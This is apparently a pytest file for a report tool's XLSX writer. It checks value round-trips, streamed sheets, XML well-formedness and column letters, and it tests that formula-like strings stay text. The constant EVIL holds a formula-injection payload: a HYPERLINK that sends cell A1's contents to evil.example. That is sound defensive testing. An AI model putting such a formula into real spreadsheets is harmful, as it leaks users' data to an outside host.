"""The report's own XLSX writer: what goes in comes out of openpyxl as it went in, text stays
text (never a formula), and every part of the package is well-formed XML."""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
from lxml import etree

from dispatch.reports.xlsx import FLUSH_ROWS, MAX_TEXT, Workbook, column_letters

EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk her")'


def test_values_come_back_as_written(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    when = datetime(2026, 3, 29, 2, 30, 15, 250_000)
    row = [7, 2.5, True, False, "Kari <&> «Nordmann»", " space ", when, None, "", "after"]
    with Workbook(path) as book:
        small = book.sheet("Summary & «more» with a name longer than thirty-one")
        small.append(["#", "text"])
        small.append(row)

    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Summary & «more» with a name longer than thirty-one"[:31]]
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    assert rows[0] == ("#", "text", None, None, None, None, None, None, None, None)
    assert rows[1] == (
        7,
        2.5,
        True,
        False,
        "Kari <&> «Nordmann»",
        " space ",
        when,
        None,
        None,
        "after",
    )


def test_text_stays_text(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    with Workbook(path) as book:
        book.sheet("Texts").append([EVIL, "@SUM(1+1)", "+4791000200", "https://example.org", "12"])
        book.sheet("Controls").append(["bell\x07 and tab\tend", "x" * (MAX_TEXT + 10)])

    workbook = openpyxl.load_workbook(path)
    cells = [c for row in workbook["Texts"].iter_rows() for c in row]
    assert [c.value for c in cells] == [
        EVIL,
        "@SUM(1+1)",
        "+4791000200",
        "https://example.org",
        "12",
    ]
    assert {c.data_type for c in cells} == {"s"}
    bell, long = next(workbook["Controls"].iter_rows(values_only=True))
    # XML cannot carry the bell: Excel's escape, which Excel reads back as the character (and
    # openpyxl leaves as it is); openpyxl's own writer refused the whole workbook.
    assert bell == "bell_x0007_ and tab\tend"
    assert long == "x" * MAX_TEXT


def test_a_streamed_sheet_and_the_package(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    count = FLUSH_ROWS * 2 + 3
    with Workbook(path) as book:
        first = book.sheet("First")
        rows = book.sheet("Rows", streamed=True)
        for n in range(count):
            rows.append([n, *(f"c{i}" for i in range(30))])
        first.append(["written after the streamed sheet"])

    workbook = openpyxl.load_workbook(path, read_only=True)
    assert workbook.sheetnames == ["First", "Rows"]
    read = list(workbook["Rows"].iter_rows(values_only=True))
    assert len(read) == count
    assert read[-1][0] == count - 1
    assert read[-1][-1] == "c29"
    assert next(workbook["First"].iter_rows(values_only=True)) == (
        "written after the streamed sheet",
    )
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            etree.fromstring(package.read(name))


def test_column_letters() -> None:
    assert [column_letters(i) for i in (0, 25, 26, 51, 52, 701, 702)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
    ]
